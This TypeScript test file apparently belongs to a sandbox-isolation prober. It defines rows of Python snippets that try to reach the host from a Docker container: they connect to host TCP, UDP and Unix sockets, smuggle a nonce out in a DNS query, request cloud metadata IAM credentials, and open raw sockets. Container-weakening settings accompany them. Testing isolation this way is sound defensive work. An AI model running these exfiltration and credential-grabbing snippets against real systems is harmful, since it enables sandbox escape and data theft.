/**
 * Attempts to reach a network.
 */
import { describeRun } from "../script-run.ts";
import type { DockerRow } from "./docker-probe.ts";

const STEAL_TCP = `
import socket
def steal():
    with socket.create_connection(("127.0.0.1", LAB["tcpPort"]), 3) as s:
        return s.recv(100).decode()
tried(steal)
`;

const useHostNetwork: DockerRow["loosen"] = (host, spec) => {
  host["NetworkMode"] = "host";
  spec.NetworkDisabled = false;
};

const receivedNonce: DockerRow["judge"] = ({ nonce }, { received }) =>
  received.some((text) => text.includes(nonce));

const describeArrival: DockerRow["evidence"] = (run, succeeded) =>
  succeeded ? "it arrived at the host" : `nothing arrived at the host: ${describeRun(run)}`;

/** The rows of this class. */
export const networkRows: readonly DockerRow[] = [
  {
    name: "connect to a TCP port of the host",
    class: "network",
    script: STEAL_TCP,
    steals: true,
    without: "with the host's network",
    loosen: useHostNetwork,
  },
  {
    name: "send a UDP packet to the host",
    class: "network",
    script: `
import socket
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(NONCE.encode(), ("127.0.0.1", LAB["udpPort"]))
    time.sleep(0.3)
tried(send)
`,
    judge: receivedNonce,
    evidence: describeArrival,
    without: "with the host's network",
    loosen: useHostNetwork,
  },
  {
    name: "carry data out in the name of a DNS query",
    class: "network",
    script: `
import socket
tried(lambda: socket.getaddrinfo(NONCE + ".example.com", 80))
`,
    judge: receivedNonce,
    evidence: describeArrival,
    without: "with the host's network and a name server",
    loosen: (host, spec, lab) => {
      useHostNetwork(host, spec, lab);
      host["Dns"] = [lab.values["dnsAddress"]];
      host["DnsOptions"] = ["timeout:1", "attempts:1"];
    },
  },
  {
    name: "send a DNS query to a name server directly",
    class: "network",
    script: `
import socket
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x10" + NONCE.encode() + b"\\0\\0\\1\\0\\1", (LAB["dnsAddress"], 53))
    time.sleep(0.3)
tried(send)
`,
    judge: receivedNonce,
    evidence: describeArrival,
    without: "with the host's network",
    loosen: useHostNetwork,
  },
  {
    name: "ask the metadata address of a cloud for credentials",
    class: "network",
    script: `
import urllib.request
url = "http://" + LAB["metadataAddress"] + "/latest/meta-data/iam/security-credentials/"
tried(lambda: urllib.request.urlopen(url, timeout=3).read().decode())
`,
    steals: true,
    without: "in a network where that address answers",
    loosen: (host, spec, lab) => {
      host["NetworkMode"] = `container:${lab.metadata}`;
      spec.NetworkDisabled = false;
      delete spec.Hostname;
    },
  },
  {
    name: "connect to an abstract Unix socket of the host",
    class: "network",
    script: `
import socket
def steal():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect("\\0" + LAB["abstractName"])
        return s.recv(100).decode()
tried(steal)
`,
    steals: true,
    without: "with the host's network",
    loosen: useHostNetwork,
  },
  {
    name: "open a raw IP socket",
    class: "network",
    script: `
import socket
tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).family)
`,
    without: "as root with NET_RAW and without the seccomp profile",
    loosen: (host, spec) => {
      host["SecurityOpt"] = ["no-new-privileges", "seccomp=unconfined", "apparmor=unconfined"];
      host["CapAdd"] = ["NET_RAW"];
      spec.User = "0:0";
    },
  },
  {
    name: "open a packet socket",
    class: "network",
    script: `
import socket
tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).family)
`,
    without: "as root with NET_RAW and without the seccomp profile",
    loosen: (host, spec) => {
      host["SecurityOpt"] = ["no-new-privileges", "seccomp=unconfined", "apparmor=unconfined"];
      host["CapAdd"] = ["NET_RAW"];
      spec.User = "0:0";
    },
  },
  {
    name: "bring up a network interface",
    class: "network",
    script: `
import fcntl, socket, struct
def up():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        fcntl.ioctl(s, 0x8914, struct.pack("16sH14s", b"lo", 0x49, b""))
tried(up)
`,
    without: "as root with NET_ADMIN",
    loosen: (host, spec) => {
      host["CapAdd"] = ["NET_ADMIN"];
      spec.User = "0:0";
    },
  },
  {
    name: "see an interface beside the loopback",
    class: "network",
    script: `
names = sorted(os.listdir("/sys/class/net"))
did([name for name in names if name not in ("lo", "tunl0", "sit0", "ip6tnl0", "gre0", "gretap0", "erspan0")], names)
`,
    without: "with the host's network",
    loosen: useHostNetwork,
  },
  {
    name: "open a socket to the hypervisor (AF_VSOCK)",
    class: "network",
    script: `
import socket
tried(lambda: socket.socket(40, socket.SOCK_STREAM).family)
`,
    without: "without the seccomp profile and the runner's own filter",
    loosen: (host) => {
      host["SecurityOpt"] = ["no-new-privileges", "seccomp=unconfined", "apparmor=unconfined"];
    },
    unavailable: ({ values }) => (values["vsock"] === 1 ? undefined : "its kernel has no such sockets"),
  },
];
